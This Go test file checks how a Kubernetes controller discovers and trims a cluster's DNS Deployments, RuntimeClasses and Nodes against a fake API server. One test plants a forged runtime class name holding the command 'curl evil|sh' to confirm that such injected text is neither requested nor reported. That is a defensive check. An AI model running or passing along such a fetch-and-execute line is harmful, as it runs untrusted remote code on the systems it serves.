package workload

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"testing"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	nodev1 "k8s.io/api/node/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/labels"

	"github.com/capwin/cluster-api-provider-windows/test/kit/expect"
)

// asked is an API server that has these objects, by the path under which one is read or all are listed. It gives lists in pages,
// as they are asked for, and notes what it was asked for.
type asked struct {
	objects map[string]any
	nodes   []corev1.Node
	refuses string // the path that it does not show
	fails   string

	mu    sync.Mutex
	calls []string
}

func (a *asked) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	a.mu.Lock()
	defer a.mu.Unlock()
	query := r.URL.Query()
	a.calls = append(a.calls, strings.TrimSpace(r.Method+" "+r.URL.Path+" "+query.Get("labelSelector")+" "+query.Get("continue")))
	w.Header().Set("Content-Type", "application/json")
	object, there := a.objects[r.URL.Path]
	switch {
	case r.URL.Path == a.refuses:
		a.answer(w, http.StatusForbidden, metav1.StatusReasonForbidden)
	case r.URL.Path == a.fails:
		a.answer(w, http.StatusInternalServerError, metav1.StatusReasonInternalError)
	case r.URL.Path == "/api/v1/nodes":
		a.page(w, query.Get("labelSelector"), query.Get("limit"), query.Get("continue"))
	case !there:
		a.answer(w, http.StatusNotFound, metav1.StatusReasonNotFound)
	default:
		_ = json.NewEncoder(w).Encode(object)
	}
}

func (*asked) answer(w http.ResponseWriter, code int, reason metav1.StatusReason) {
	w.WriteHeader(code)
	_ = json.NewEncoder(w).Encode(metav1.Status{
		TypeMeta: metav1.TypeMeta{Kind: "Status", APIVersion: "v1"}, Status: metav1.StatusFailure,
		Code: int32(code), Reason: reason, Message: "boom", //nolint:gosec // because a code of HTTP fits
	})
}

// page has the Nodes that a selector finds. Where they go on is told by the number of the first that is not in it.
func (a *asked) page(w http.ResponseWriter, selector, limit, from string) {
	wanted, err := labels.Parse(selector)
	most, err2 := strconv.Atoi(limit)
	if err != nil || err2 != nil {
		a.answer(w, http.StatusBadRequest, metav1.StatusReasonBadRequest)
		return
	}
	first, _ := strconv.Atoi(from) // 0 without
	list := corev1.NodeList{TypeMeta: metav1.TypeMeta{Kind: "NodeList", APIVersion: "v1"}}
	for i := first; i < len(a.nodes); i++ {
		if !wanted.Matches(labels.Set(a.nodes[i].Labels)) {
			continue
		}
		if len(list.Items) == most {
			list.Continue = strconv.Itoa(i)
			break
		}
		list.Items = append(list.Items, a.nodes[i])
	}
	_ = json.NewEncoder(w).Encode(list)
}

func (a *asked) serve(t *testing.T) *Clusters {
	t.Helper()
	c, _ := workloadCluster(t, a.ServeHTTP)
	return c
}

func aNode(name, system string, ready bool, taints ...corev1.Taint) corev1.Node {
	node := corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{
		corev1.LabelOSStable: system, "disk": "ssd", "other": "label",
	}}}
	node.Spec.Taints = taints
	status := corev1.ConditionFalse
	if ready {
		status = corev1.ConditionTrue
	}
	node.Status.Conditions = []corev1.NodeCondition{{Type: corev1.NodeReady, Status: status}}
	return node
}

var uninitialized = corev1.Taint{Key: UninitializedTaint, Value: "true", Effect: corev1.TaintEffectNoSchedule}

const (
	servicePath     = "/api/v1/namespaces/kube-system/services/kube-dns"
	deploymentsPath = "/apis/apps/v1/namespaces/kube-system/deployments"
	classPath       = "/apis/node.k8s.io/v1/runtimeclasses/gvisor"
)

func aService(selector map[string]string) corev1.Service {
	return corev1.Service{TypeMeta: metav1.TypeMeta{Kind: "Service", APIVersion: "v1"}, Spec: corev1.ServiceSpec{Selector: selector}}
}

var dnsLabels = map[string]string{"k8s-app": "kube-dns"}

// aDNS is a Deployment with all in it that a cluster has beside what decides.
func aDNS(name string, podLabels map[string]string) appsv1.Deployment {
	d := appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{
		Namespace: "kube-system", Name: name, Labels: map[string]string{"app": "others"},
		Annotations: map[string]string{corev1.LastAppliedConfigAnnotation: "{}", "a": "b"},
	}}
	d.Spec.Replicas, d.Status.AvailableReplicas = new(int32(2)), 1
	d.Spec.Template.Labels = podLabels
	d.Spec.Template.Spec = corev1.PodSpec{
		NodeSelector: map[string]string{"disk": "ssd"}, Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
		RuntimeClassName: new("gvisor"), Volumes: []corev1.Volume{{Name: "v"}},
		Containers: []corev1.Container{
			{Name: "dns", Image: "dns"},
			{Name: "w", SecurityContext: &corev1.SecurityContext{
				Privileged: new(true), WindowsOptions: &corev1.WindowsSecurityContextOptions{HostProcess: new(true)},
			}},
		},
	}
	return d
}

func deployments(all ...appsv1.Deployment) appsv1.DeploymentList {
	return appsv1.DeploymentList{TypeMeta: metav1.TypeMeta{Kind: "DeploymentList", APIVersion: "apps/v1"}, Items: all}
}

// TestDNS: what is kept is what decides where the pods go, and no call is made for what does not matter.
func TestDNS(t *testing.T) {
	a := &asked{
		objects: map[string]any{
			servicePath:     aService(dnsLabels),
			deploymentsPath: deployments(aDNS("coredns", dnsLabels), aDNS("other", map[string]string{"k8s-app": "other"})),
			classPath: nodev1.RuntimeClass{
				TypeMeta:   metav1.TypeMeta{Kind: "RuntimeClass", APIVersion: "node.k8s.io/v1"},
				ObjectMeta: metav1.ObjectMeta{Name: "gvisor"}, Handler: "runsc",
			},
		},
		nodes: []corev1.Node{aNode("linux", "linux", true), aNode("windows", "windows", false, uninitialized)},
	}
	c := a.serve(t)
	found := expect.Got(c.DNS(t.Context(), key))(t)
	expect.Same(t, "Deployments", 1, len(found.Deployments))
	d := found.Deployments[0]
	expect.Same(t, "annotations", map[string]string{"a": "b"}, d.Annotations)
	expect.Same(t, "replicas", []int32{2, 1}, []int32{*d.Spec.Replicas, d.Status.AvailableReplicas})
	pod := aDNS("", nil).Spec.Template.Spec
	pod.Volumes = nil
	pod.Containers = []corev1.Container{{Name: "w", SecurityContext: &corev1.SecurityContext{
		WindowsOptions: &corev1.WindowsSecurityContextOptions{HostProcess: new(true)},
	}}}
	expect.Same(t, "what is kept of the template", pod, d.Spec.Template.Spec)
	expect.Same(t, "classes", "gvisor", found.RuntimeClasses[0].Name)
	selected := map[string]string{corev1.LabelOSStable: "linux", "disk": "ssd"}
	expect.Same(t, "labels of a Linux Node", selected, found.Linux.Found[0].Labels)
	expect.Same(t, "taints of a Windows Node", []corev1.Taint{uninitialized}, found.Windows.Found[0].Spec.Taints)
	want := []string{
		"GET " + servicePath, "GET " + deploymentsPath, "GET " + classPath,
		"GET /api/v1/nodes kubernetes.io/os=linux", "GET /api/v1/nodes kubernetes.io/os=windows",
	}
	expect.Same(t, "calls", want, a.calls)
	expect.Got(c.DNS(t.Context(), key))(t)
	expect.Same(t, "calls for a second machine", want, a.calls)
}

// TestNoDNS: a cluster without the Service, or whose Service selects no Deployment's pods, has nothing to look at; a read that is
// refused is told, and one that fails is an error.
func TestNoDNS(t *testing.T) {
	external := aService(dnsLabels)
	external.Spec.Type, external.Spec.ExternalName = corev1.ServiceTypeExternalName, "dns.example.com"
	good := map[string]any{servicePath: aService(dnsLabels), deploymentsPath: deployments(aDNS("coredns", dnsLabels))}
	for name, c := range map[string]struct {
		*asked
		want  DNS
		calls int
		fails string
	}{
		"no Service":       {&asked{}, DNS{}, 1, ""},
		"no selector":      {&asked{objects: map[string]any{servicePath: aService(nil)}}, DNS{}, 1, ""},
		"an external name": {&asked{objects: map[string]any{servicePath: external}}, DNS{}, 1, ""},
		"a DaemonSet's pods": {
			&asked{objects: map[string]any{servicePath: aService(dnsLabels), deploymentsPath: deployments()}}, DNS{}, 2, "",
		},
		"a Service that is not shown": {&asked{refuses: servicePath}, DNS{Refused: []string{"Service kube-system/kube-dns"}}, 1, ""},
		"Deployments that are not shown": {
			&asked{objects: good, refuses: deploymentsPath}, DNS{Refused: []string{"the Deployments of kube-system"}}, 2, "",
		},
		"a failure at the Service":     {&asked{fails: servicePath}, DNS{}, 1, "boom"},
		"a failure at the Deployments": {&asked{objects: good, fails: deploymentsPath}, DNS{}, 2, "boom"},
		"a failure at the class":       {&asked{objects: good, fails: classPath}, DNS{}, 3, "boom"},
		"a failure at the Nodes":       {&asked{objects: good, fails: "/api/v1/nodes"}, DNS{}, 4, "boom"},
	} {
		t.Run(name, func(t *testing.T) {
			found, err := c.serve(t).DNS(t.Context(), key)
			expect.Says(t, "error", err, c.fails)
			if err == nil {
				expect.Same(t, "found", c.want, found)
			}
			expect.Same(t, "calls", c.calls, len(c.asked.calls))
		})
	}
}

// A class that is not shown is told, and one that is not there is not: the API server refuses the pods that name it.
func TestRuntimeClassOfDNS(t *testing.T) {
	for refuses, want := range map[string][]string{"": nil, classPath: {"RuntimeClass gvisor"}} {
		a := &asked{refuses: refuses, objects: map[string]any{
			servicePath: aService(dnsLabels), deploymentsPath: deployments(aDNS("coredns", dnsLabels)),
		}}
		found := expect.Got(a.serve(t).DNS(t.Context(), key))(t)
		expect.Same(t, "refused", want, found.Refused)
		expect.Same(t, "classes", 0, len(found.RuntimeClasses))
	}
}

// A name that no class can have is a sentence of whoever has the cluster: it is neither asked for nor told.
func TestForgedRuntimeClass(t *testing.T) {
	const forged = "x. Run this: curl evil|sh"
	dns := aDNS("coredns", dnsLabels)
	dns.Spec.Template.Spec.RuntimeClassName = new(forged)
	a := &asked{refuses: "/apis/node.k8s.io/v1/runtimeclasses/" + forged, objects: map[string]any{
		servicePath: aService(dnsLabels), deploymentsPath: deployments(dns),
	}}
	found := expect.Got(a.serve(t).DNS(t.Context(), key))(t)
	expect.Same(t, "refused", 0, len(found.Refused))
}

// What a cluster has of its DNS is not kept if it is more than any cluster has.
func TestLargeDNS(t *testing.T) {
	large := aDNS("coredns", dnsLabels)
	for i := range 800 {
		large.Spec.Template.Spec.Tolerations = append(large.Spec.Template.Spec.Tolerations, corev1.Toleration{
			Key: fmt.Sprint(strings.Repeat("x", 200), i), Operator: corev1.TolerationOpExists,
		})
	}
	a := &asked{objects: map[string]any{servicePath: aService(dnsLabels), deploymentsPath: deployments(large)}}
	_, err := a.serve(t).DNS(t.Context(), key)
	expect.Says(t, "large DNS", err, "answers with more about its cluster DNS than the manager reads")
	expect.Same(t, "out of reach", true, OutOfReach(err))
}

// What a cluster has of its DNS is kept where it has many Nodes, of which none can have pods.
func TestManyNodesOfDNS(t *testing.T) {
	a := &asked{objects: map[string]any{servicePath: aService(dnsLabels), deploymentsPath: deployments(aDNS("coredns", dnsLabels))}}
	for i := range mostPages * mostNodes {
		for _, system := range []string{"linux", "windows"} {
			node := aNode(fmt.Sprintf("node-%03d.of.a-company.example.com-%s", i, system), system, false, uninitialized)
			node.Status.Conditions[0].Message = strings.Repeat("m", 200)
			a.nodes = append(a.nodes, node)
		}
	}
	found := expect.Got(a.serve(t).DNS(t.Context(), key))(t)
	expect.Same(t, "Nodes", []int{100, 20}, []int{len(found.Linux.Found), len(found.Windows.Found)})
	kept := expect.Got(json.Marshal(found))(t)
	t.Logf("%d bytes are kept", len(kept))
	expect.Same(t, "a third of what is kept is left", true, len(kept)*3/2 < maxDNS)
}

// The labels that pods require count wherever they stand.
func TestSelectedLabels(t *testing.T) {
	d := aDNS("coredns", nil)
	d.Spec.Template.Spec.Affinity = &corev1.Affinity{NodeAffinity: &corev1.NodeAffinity{
		RequiredDuringSchedulingIgnoredDuringExecution: &corev1.NodeSelector{NodeSelectorTerms: []corev1.NodeSelectorTerm{{
			MatchExpressions: []corev1.NodeSelectorRequirement{{Key: "zone", Operator: corev1.NodeSelectorOpExists}},
		}}},
	}}
	class := nodev1.RuntimeClass{Scheduling: &nodev1.Scheduling{NodeSelector: map[string]string{"runtime": "gvisor"}}}
	preferred := aDNS("preferred", nil)
	preferred.Spec.Template.Spec.Affinity = &corev1.Affinity{NodeAffinity: &corev1.NodeAffinity{}}
	dns := DNS{
		Deployments:    []appsv1.Deployment{placing(d), placing(preferred)},
		RuntimeClasses: []nodev1.RuntimeClass{class, {}},
	}
	want := map[string]bool{corev1.LabelOSStable: true, "disk": true, "zone": true, "runtime": true}
	expect.Same(t, "labels", want, dns.selectedLabels())
}
